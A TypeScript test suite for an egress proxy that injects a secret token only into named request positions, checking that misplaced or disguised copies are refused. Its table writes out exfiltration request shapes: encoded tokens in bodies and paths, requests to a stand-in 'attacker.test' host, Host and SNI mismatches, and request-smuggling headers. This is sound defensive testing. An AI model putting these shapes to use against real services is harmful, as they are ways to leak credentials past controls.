/*
 * The injection rules against request shapes, byte for byte: raw requests written through the
 * proxy (inside a terminated tunnel, and as plain proxy requests) to real local servers that
 * record what reaches them. The oracle is the one rule of the issue: the real value leaves only
 * in the positions its binding names, to its host, over TLS; a request with the sentinel anywhere
 * else is refused whole (nothing reaches any server) with a reason; a request that names its
 * destination ambiguously is refused whatever it carries. A table covers the named shapes and a
 * property test places the sentinel at random positions, in random spellings, split at random.
 */
import fc from 'fast-check';
import { connect, type Socket } from 'node:net';
import { connect as tlsConnect } from 'node:tls';
import { gzipSync } from 'node:zlib';
import { makeTempDir } from '../helpers/tmp';
import { EgressProxy, type EgressDecision, type EgressRun } from '../../src/egress/proxy';
import { parseHostPatterns } from '../../src/egress/hosts';
import { normalizeNetworkPolicy, normalizeSecretBindings } from '../../src/policy/egress-settings';
import { createSentinel } from '../../src/egress/sentinel';
import { makeNames, publicCa, startService, type Seen, type TestService } from './helpers';

const VALUE = 'ghp_R3alT0kenValue9xYzQ8wVu7tSr6qPo5nM4';
const SENTINEL = createSentinel(VALUE);
const REF = 'secret:gh';

let tmp: ReturnType<typeof makeTempDir>;
let allowed: TestService;
let attacker: TestService;
let proxy: EgressProxy;
const decisions: EgressDecision[] = [];

// The default binding plus named places: Authorization, X-Api-Key, ?access_token=, cookie sid.
const [NAMED] = normalizeSecretBindings([{ ref: REF, hosts: ['allowed.test'], delivery: 'inject', headers: ['Authorization', 'X-Api-Key'], query: ['access_token'], cookies: ['sid'] }]);
// Every opt-in, narrowed to POST under /api: body, path, plain HTTP to allowed.test by name.
const [OPTED] = normalizeSecretBindings([{ ref: REF, hosts: ['allowed.test'], delivery: 'inject', body: true, path: true, methods: ['POST'], paths: ['/api'], http: ['allowed.test'] }]);

let named: EgressRun;
let opted: EgressRun;

beforeAll(async () => {
  tmp = makeTempDir('execgate-egress-rules-');
  allowed = await startService('allowed');
  attacker = await startService('attacker');
  proxy = new EgressProxy({ ...makeNames({ 'allowed.test': allowed, 'attacker.test': attacker }), upstreamCa: [publicCa.certPem], onDecision: (d) => decisions.push(d), runtimeDir: tmp.dir });
  const network = normalizeNetworkPolicy({ mode: 'open' });
  const hosts = parseHostPatterns(['allowed.test'], 'hosts');
  named = await proxy.openRun({ runId: 'named', network, injections: [{ ref: REF, value: VALUE, sentinel: SENTINEL, hosts, binding: NAMED }] });
  opted = await proxy.openRun({ runId: 'opted', network, injections: [{ ref: REF, value: VALUE, sentinel: SENTINEL, hosts, binding: OPTED }] });
});

afterAll(async () => {
  await proxy.close();
  await allowed.close();
  await attacker.close();
  tmp.cleanup();
});

beforeEach(() => {
  decisions.length = 0;
  for (const service of [allowed, attacker]) {
    service.seen.length = 0;
    service.connections = 0;
  }
});

/** Read until the peer closes (every request here says `Connection: close`). */
function readAll(socket: Socket): Promise<string> {
  return new Promise((resolve) => {
    const chunks: Buffer[] = [];
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    socket.on('error', () => resolve(Buffer.concat(chunks).toString('latin1')));
    socket.on('close', () => resolve(Buffer.concat(chunks).toString('latin1')));
  });
}

/** Write `parts` one by one (a part boundary is where a sentinel may be split). */
async function writeParts(socket: Socket, parts: readonly (string | Buffer)[]): Promise<void> {
  for (const part of parts) {
    await new Promise<void>((resolve) => socket.write(part, () => resolve()));
    // Give each part its own segment: a split the proxy sees, not one the kernel merged.
    await new Promise((resolve) => setImmediate(resolve));
  }
}

/** A request inside a tunnel the proxy terminates (CONNECT authority, then TLS with `servername`). */
async function viaTunnel(run: EgressRun, parts: readonly (string | Buffer)[], options: { authority?: string; servername?: string } = {}): Promise<string> {
  const authority = options.authority ?? 'allowed.test:443';
  const raw = connect(run.socketPath);
  const head = await new Promise<string>((resolve, reject) => {
    let text = '';
    raw.on('data', function onData(chunk: Buffer) {
      text += chunk.toString('latin1');
      if (text.includes('\r\n\r\n')) {
        raw.off('data', onData);
        resolve(text);
      }
    });
    raw.once('error', reject);
    raw.write(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`);
  });
  if (!head.startsWith('HTTP/1.1 200')) return head;
  const tls = tlsConnect({ socket: raw, servername: options.servername ?? 'allowed.test', ca: proxy.getCaCertificate(), rejectUnauthorized: false });
  await new Promise<void>((resolve, reject) => { tls.once('secureConnect', resolve); tls.once('error', reject); });
  const reply = readAll(tls);
  await writeParts(tls, parts);
  return reply;
}

/** A plain-HTTP proxy request (absolute-form) written raw to the run's socket. */
async function viaPlain(run: EgressRun, parts: readonly (string | Buffer)[]): Promise<string> {
  const socket = connect(run.socketPath);
  await new Promise<void>((resolve) => socket.once('connect', () => resolve()));
  const reply = readAll(socket);
  await writeParts(socket, parts);
  return reply;
}

function request(line: string, headers: readonly string[], body = ''): string {
  const length = body === '' ? [] : [`Content-Length: ${Buffer.byteLength(body)}`];
  return `${line}\r\n${[...headers, ...length, 'Connection: close'].join('\r\n')}\r\n\r\n${body}`;
}

function status(reply: string): number {
  return Number(/^HTTP\/1\.[01] (\d{3})/.exec(reply)?.[1] ?? 0);
}

const b64 = (text: string): string => Buffer.from(text).toString('base64');
const percentAll = (text: string): string => [...Buffer.from(text)].map((byte) => `%${byte.toString(16).toUpperCase().padStart(2, '0')}`).join('');
const basic = (user: string, password: string): string => `Basic ${b64(`${user}:${password}`)}`;

/** Where the value reached a server, as `field` names ('authorization', 'url', 'body', 'cookie', ...). */
function valuePlaces(seen: readonly Seen[]): string[] {
  const places: string[] = [];
  for (const s of seen) {
    if (s.url.includes(VALUE) || s.url.includes(encodeURIComponent(VALUE))) places.push('url');
    if (s.raw.includes(VALUE)) places.push('body');
    for (const [name, value] of Object.entries(s.headers)) {
      const text = String(value);
      const decoded = /^basic /i.test(text) ? Buffer.from(text.slice(6), 'base64').toString('utf8') : '';
      if (text.includes(VALUE) || decoded.includes(VALUE)) places.push(name);
    }
  }
  return places;
}

function sentinelReached(): boolean {
  return [...allowed.seen, ...attacker.seen].some((s) => JSON.stringify([s.url, s.headers]).includes(SENTINEL) || s.raw.includes(SENTINEL));
}

type Shape = readonly [name: string, send: () => Promise<string>, expected: number, places: readonly string[]];

const H = 'Host: allowed.test';
const shapes: Shape[] = [
  // Named positions: the value, there and nowhere else.
  ['Authorization: Bearer', () => viaTunnel(named, [request('GET /a HTTP/1.1', [H, `Authorization: Bearer ${SENTINEL}`])]), 200, ['authorization']],
  ['Authorization: token', () => viaTunnel(named, [request('GET /a HTTP/1.1', [H, `Authorization: token ${SENTINEL}`])]), 200, ['authorization']],
  ['Authorization: bare', () => viaTunnel(named, [request('GET /a HTTP/1.1', [H, `Authorization: ${SENTINEL}`])]), 200, ['authorization']],
  ['Authorization: Basic (password)', () => viaTunnel(named, [request('GET /a HTTP/1.1', [H, `Authorization: ${basic('x-access-token', SENTINEL)}`])]), 200, ['authorization']],
  ['Authorization: Basic (user)', () => viaTunnel(named, [request('GET /a HTTP/1.1', [H, `Authorization: ${basic(SENTINEL, '')}`])]), 200, ['authorization']],
  ['a listed header (X-Api-Key)', () => viaTunnel(named, [request('GET /a HTTP/1.1', [H, `X-Api-Key: ${SENTINEL}`])]), 200, ['x-api-key']],
  ['a named query parameter', () => viaTunnel(named, [request(`GET /a?x=1&access_token=${SENTINEL} HTTP/1.1`, [H])]), 200, ['url']],
  ['a named query parameter, percent-encoded', () => viaTunnel(named, [request(`GET /a?access_token=${percentAll(SENTINEL)} HTTP/1.1`, [H])]), 200, ['url']],
  ['a named cookie', () => viaTunnel(named, [request('GET /a HTTP/1.1', [H, `Cookie: a=b; sid=${SENTINEL}`])]), 200, ['cookie']],
  ['HTTP/1.0 without Host', () => viaTunnel(named, [`GET /a HTTP/1.0\r\nAuthorization: Bearer ${SENTINEL}\r\n\r\n`]), 200, ['authorization']],
  ['absolute-form naming the tunnel\'s host', () => viaTunnel(named, [request('GET https://allowed.test/a HTTP/1.1', [H, `Authorization: Bearer ${SENTINEL}`])]), 200, ['authorization']],
  ['the header split across writes', () => viaTunnel(named, [`GET /a HTTP/1.1\r\n${H}\r\nAuthorization: Bearer ${SENTINEL.slice(0, 9)}`, `${SENTINEL.slice(9)}\r\nConnection: close\r\n\r\n`]), 200, ['authorization']],
  // Anywhere else: refused, nothing forwarded.
  ['the body', () => viaTunnel(named, [request('POST /store HTTP/1.1', [H], `token=${SENTINEL}`)]), 403, []],
  ['the body, split across writes', () => viaTunnel(named, [request('POST /store HTTP/1.1', [H], `token=${SENTINEL}`).slice(0, -20), request('POST /store HTTP/1.1', [H], `token=${SENTINEL}`).slice(-20)]), 403, []],
  ['the body, chunked', () => viaTunnel(named, [`POST /store HTTP/1.1\r\n${H}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n5\r\nhello\r\n`, `${(SENTINEL.length).toString(16)}\r\n${SENTINEL}\r\n`, '0\r\n\r\n']), 403, []],
  ['the body, base64', () => viaTunnel(named, [request('POST /store HTTP/1.1', [H], `{"content":"${b64(SENTINEL)}"}`)]), 403, []],
  ['the body, percent-encoded', () => viaTunnel(named, [request('POST /store HTTP/1.1', [H], `token=${percentAll(SENTINEL)}`)]), 403, []],
  ['the body, hex', () => viaTunnel(named, [request('POST /store HTTP/1.1', [H], Buffer.from(SENTINEL).toString('hex'))]), 403, []],
  ['the path', () => viaTunnel(named, [request(`GET /${SENTINEL} HTTP/1.1`, [H])]), 403, []],
  ['another query parameter', () => viaTunnel(named, [request(`GET /a?q=${SENTINEL} HTTP/1.1`, [H])]), 403, []],
  ['another header', () => viaTunnel(named, [request('GET /a HTTP/1.1', [H, `X-Other: ${SENTINEL}`])]), 403, []],
  ['another header, base64', () => viaTunnel(named, [request('GET /a HTTP/1.1', [H, `User-Agent: ${b64(SENTINEL)}`])]), 403, []],
  ['a header name', () => viaTunnel(named, [request('GET /a HTTP/1.1', [H, `X-${SENTINEL}: 1`])]), 403, []],
  ['another cookie', () => viaTunnel(named, [request('GET /a HTTP/1.1', [H, `Cookie: other=${SENTINEL}`])]), 403, []],
  ['Authorization, not the whole credential', () => viaTunnel(named, [request('GET /a HTTP/1.1', [H, `Authorization: Bearer ${SENTINEL} more`])]), 403, []],
  // One reading of the request: whatever it carries, a request naming two destinations goes nowhere.
  ['absolute-form naming another host', () => viaTunnel(named, [request('GET https://attacker.test/x HTTP/1.1', [H, `Authorization: Bearer ${SENTINEL}`])]), 403, []],
  ['absolute-form with http:// inside TLS', () => viaTunnel(named, [request('GET http://allowed.test/x HTTP/1.1', [H, `Authorization: Bearer ${SENTINEL}`])]), 403, []],
  ['two Host headers (bound first)', () => viaTunnel(named, [request('GET /a HTTP/1.1', [H, 'Host: attacker.test', `Authorization: Bearer ${SENTINEL}`])]), 403, []],
  ['a Host naming another host', () => viaTunnel(named, [request('GET /a HTTP/1.1', ['Host: attacker.test', `Authorization: Bearer ${SENTINEL}`])]), 403, []],
  ['a Host naming another port', () => viaTunnel(named, [request('GET /a HTTP/1.1', ['Host: allowed.test:8443', `Authorization: Bearer ${SENTINEL}`])]), 403, []],
  ['a Host in another spelling of another host', () => viaTunnel(named, [request('GET /a HTTP/1.1', ['Host: 0xcb00710b', `Authorization: Bearer ${SENTINEL}`])]), 403, []],
  ['an SNI for another name', () => viaTunnel(named, [request('GET /a HTTP/1.1', [H, `Authorization: Bearer ${SENTINEL}`])], { servername: 'attacker.test' }), 403, []],
  ['HTTP/1.1 without Host', () => viaTunnel(named, [`GET /a HTTP/1.1\r\nAuthorization: Bearer ${SENTINEL}\r\nConnection: close\r\n\r\n`]), 400, []],
  ['Content-Length with Transfer-Encoding', () => viaTunnel(named, [`POST /a HTTP/1.1\r\n${H}\r\nAuthorization: Bearer ${SENTINEL}\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`]), 400, []],
  ['two Content-Length headers', () => viaTunnel(named, [`POST /a HTTP/1.1\r\n${H}\r\nAuthorization: Bearer ${SENTINEL}\r\nContent-Length: 1\r\nContent-Length: 1\r\n\r\nx`]), 400, []],
  ['Transfer-Encoding other than chunked', () => viaTunnel(named, [`POST /a HTTP/1.1\r\n${H}\r\nAuthorization: Bearer ${SENTINEL}\r\nTransfer-Encoding: gzip\r\nConnection: close\r\n\r\n`]), 403, []],
  ['chunked HTTP/1.0', () => viaTunnel(named, [`POST /a HTTP/1.0\r\n${H}\r\nAuthorization: Bearer ${SENTINEL}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`]), 403, []],
  // TLS only, to the bound host and port.
  ['plain HTTP to the bound host', () => viaPlain(named, [request('GET http://allowed.test/a HTTP/1.1', [H, `Authorization: Bearer ${SENTINEL}`])]), 403, []],
  ['plain HTTP to another host', () => viaPlain(named, [request('GET http://attacker.test/a HTTP/1.1', ['Host: attacker.test', `Authorization: Bearer ${SENTINEL}`])]), 403, []],
  ['plain HTTP to another host, in the body', () => viaPlain(named, [request('POST http://attacker.test/a HTTP/1.1', ['Host: attacker.test'], `x=${SENTINEL}`)]), 403, []],
  ['a tunnel to another host (not terminated)', () => viaTunnel(named, [request('GET /a HTTP/1.1', ['Host: attacker.test', `Authorization: Bearer ${SENTINEL}`])], { authority: 'attacker.test:443', servername: 'attacker.test' }), 200, []],
  // Opt-ins: body, path and plain HTTP only where the binding names them, for POST under /api.
  ['opted: the body of a POST under /api', () => viaTunnel(opted, [request('POST /api/x HTTP/1.1', [H], `token=${SENTINEL}`)]), 200, ['body']],
  ['opted: the path of a POST under /api', () => viaTunnel(opted, [request(`POST /api/${SENTINEL} HTTP/1.1`, [H])]), 200, ['url']],
  ['opted: plain HTTP to the host named in `http`', () => viaPlain(opted, [request('POST http://allowed.test/api/x HTTP/1.1', [H], `token=${SENTINEL}`)]), 200, ['body']],
  ['opted: a GET (methods: POST)', () => viaTunnel(opted, [request('GET /api/x HTTP/1.1', [H, `Authorization: Bearer ${SENTINEL}`])]), 403, []],
  ['opted: a path outside /api', () => viaTunnel(opted, [request('POST /apix HTTP/1.1', [H], `token=${SENTINEL}`)]), 403, []],
  ['opted: a dot segment out of /api', () => viaTunnel(opted, [request('POST /api/../gists HTTP/1.1', [H], `token=${SENTINEL}`)]), 403, []],
  ['opted: an encoded slash', () => viaTunnel(opted, [request('POST /api%2F..%2Fgists HTTP/1.1', [H], `token=${SENTINEL}`)]), 403, []],
  ['opted: a gzip body (the value cannot be put into it)', () => viaTunnel(opted, [Buffer.concat([Buffer.from(`POST /api/x HTTP/1.1\r\n${H}\r\nContent-Encoding: gzip\r\nContent-Length: ${gzipSync(`token=${SENTINEL}`).length}\r\nConnection: close\r\n\r\n`), gzipSync(`token=${SENTINEL}`)])]), 403, []],
];

describe('request shapes against the injection rules', () => {
  test.each(shapes)('%s', async (_name, send, expected, places) => {
    const reply = await send();
    expect(status(reply)).toBe(expected);
    expect(valuePlaces([...allowed.seen, ...attacker.seen])).toEqual([...places]);
    // The value never went to the other host, and nothing reached anything on a refusal.
    expect(valuePlaces(attacker.seen)).toEqual([]);
    if (expected !== 200) {
      expect([...allowed.seen, ...attacker.seen]).toEqual([]);
      // The client is told why (status line on CONNECT, body otherwise); never the value.
      expect(reply).toMatch(/execgate egress proxy: refused|Bad Request/);
      expect(reply).not.toContain(VALUE);
    } else if (places.length > 0) {
      expect(sentinelReached()).toBe(false);
    }
    // Decisions never hold the value or the sentinel.
    expect(JSON.stringify(decisions)).not.toContain(VALUE);
    expect(JSON.stringify(decisions)).not.toContain(SENTINEL);
  });

  test('a refusal says where the sentinel was and where its binding puts it', async () => {
    const reply = await viaTunnel(named, [request('POST /store HTTP/1.1', [H], `token=${SENTINEL}`)]);
    expect(reply).toContain(`refused allowed.test:443 (<<${REF}>> is in the body; its binding puts the value only in the Authorization header, the X-Api-Key header, the query parameter \`access_token\`, the cookie \`sid\`)`);
    expect(decisions.at(-1)).toMatchObject({ runId: 'named', allowed: false, rule: `sentinel-misplaced:${REF}`, status: 403 });
    const plain = await viaPlain(named, [request('GET http://allowed.test/a HTTP/1.1', [H, `Authorization: Bearer ${SENTINEL}`])]);
    expect(plain).toContain(`<<${REF}>> is injected over HTTPS only; this request to allowed.test:80 is plain HTTP`);
  });

  test('pipelined requests are each read on their own: a second one naming another host is refused', async () => {
    const reply = await viaTunnel(named, [
      `GET /one HTTP/1.1\r\n${H}\r\nAuthorization: Bearer ${SENTINEL}\r\n\r\n`,
      `GET /two HTTP/1.1\r\nHost: attacker.test\r\nAuthorization: Bearer ${SENTINEL}\r\nConnection: close\r\n\r\n`,
    ]);
    expect(reply.match(/^HTTP\/1\.1 \d{3}/gm)).toEqual(['HTTP/1.1 200', 'HTTP/1.1 403']);
    expect(allowed.seen.map((s) => s.url)).toEqual(['/one']);
  });
});

/*
 * Random shapes: the sentinel at a random position in a random spelling, the request split at
 * random byte offsets. The value may reach the server only where NAMED puts it, spelt as a client
 * spells a credential there; everything else is refused before any byte reaches a server.
 */
describe('random placements', () => {
  const positions = ['authorization', 'x-api-key', 'query:access_token', 'cookie:sid', 'x-other', 'query:q', 'cookie:other', 'path', 'body', 'user-agent'] as const;
  const spellings = ['raw', 'base64', 'hex', 'percent', 'json-unicode', 'partly-escaped'] as const;
  const spell = (how: (typeof spellings)[number]): string => {
    switch (how) {
      case 'raw': return SENTINEL;
      case 'base64': return b64(SENTINEL);
      case 'hex': return Buffer.from(SENTINEL).toString('hex');
      case 'percent': return percentAll(SENTINEL);
      case 'json-unicode': return [...SENTINEL].map((ch) => `\\u${ch.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
      // One character escaped: no list of spellings can hold every such mix; it still never becomes the value.
      case 'partly-escaped': return SENTINEL.replace('_', '\\u005f');
    }
  };
  const allowedSpelling = (position: string, how: string): boolean =>
    (how === 'raw' && ['authorization', 'x-api-key', 'query:access_token', 'cookie:sid'].includes(position)) || (how === 'percent' && position === 'query:access_token');
  // Every spelling here is one the proxy looks for (the masker's, plus all-byte percent and \u escapes).
  const claimed = new Set<string>(['raw', 'base64', 'hex', 'percent', 'json-unicode']);

  test('the value leaves only in a named position, spelt as a credential is', async () => {
    await fc.assert(fc.asyncProperty(
      fc.constantFrom(...positions), fc.constantFrom(...spellings), fc.array(fc.integer({ min: 1, max: 60 }), { minLength: 1, maxLength: 6 }),
      async (position, how, cuts) => {
        allowed.seen.length = 0;
        const text = spell(how);
        const headers = [H];
        let target = '/r';
        let body = '';
        if (position === 'authorization') headers.push(`Authorization: Bearer ${text}`);
        else if (position === 'x-api-key' || position === 'x-other' || position === 'user-agent') headers.push(`${position}: ${text}`);
        else if (position.startsWith('query:')) target = `/r?${position.slice(6)}=${text}`;
        else if (position.startsWith('cookie:')) headers.push(`Cookie: ${position.slice(7)}=${text}`);
        else if (position === 'path') target = `/r/${text}`;
        else body = `data=${text}`;
        const bytes = request(`${body ? 'POST' : 'GET'} ${target} HTTP/1.1`, headers, body);
        const parts: string[] = [];
        let at = 0;
        for (const cut of cuts) {
          if (at >= bytes.length) break;
          parts.push(bytes.slice(at, at + cut));
          at += cut;
        }
        if (at < bytes.length) parts.push(bytes.slice(at));
        const reply = await viaTunnel(named, parts);
        const places = valuePlaces(allowed.seen);
        if (allowedSpelling(position, how)) {
          expect(status(reply)).toBe(200);
          expect(places).toEqual([position.startsWith('query:') ? 'url' : position.startsWith('cookie:') ? 'cookie' : position]);
        } else {
          // Wherever else and however spelt, the value never leaves; a spelling the proxy looks
          // for is refused outright (one it does not would reach the server as the sentinel).
          expect(places).toEqual([]);
          if (claimed.has(how)) {
            expect(status(reply)).toBe(403);
            expect(allowed.seen).toEqual([]);
          }
        }
      },
    ), { numRuns: Number(process.env.EXECGATE_FUZZ_RUNS ?? 60) });
  });
});
